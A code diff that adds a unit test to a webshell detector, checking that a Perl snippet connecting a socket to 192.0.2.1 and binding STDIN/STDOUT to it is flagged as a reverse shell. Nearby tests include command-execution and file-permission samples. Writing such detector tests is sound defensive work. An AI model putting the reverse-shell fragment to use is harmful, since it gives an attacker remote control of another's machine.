@@ -97,6 +97,22 @@ TEST(WebshellDeeds, ProgramsThatStandInAScriptAreNoCommandsOfARequest) {
   EXPECT_GE(perl("open($m, \"cd $d; $c|\"); " + text), 70);
 }
 
+TEST(WebshellDeeds, ConnectionsAsStandardInput) {
+  const auto perl = [](const std::string& code) {
+    const Judgement judgement = analyse(
+        "#!/usr/bin/perl\nuse Socket; socket(S, PF_INET, SOCK_STREAM, 6); "
+        "connect(S, sockaddr_in(80, inet_aton('192.0.2.1'))); " +
+            code,
+        "a.pl");
+    std::vector<std::string> names;
+    for (const Witness& witness : judgement.witnesses) names.push_back(witness.name);
+    return names;
+  };
+  EXPECT_THAT(perl("open(STDIN, \"<&S\"); open(STDOUT, \">&S\");"), Contains("code.reverse"));
+  EXPECT_THAT(perl("open(STDIN, \"<&SAVEIN\"); open(LOG, \">&STDERR\");"),
+              Not(Contains("code.reverse")));
+}
+
 TEST(WebshellDeeds, FilesThatARequestChanges) {
   EXPECT_GE(score_of("chmod(stripslashes(" + kPost + "['p']), 0777);"), 30);
   EXPECT_LT(score_of("unlink('cache/' . md5(" + kPost + "['p']));"), 30);
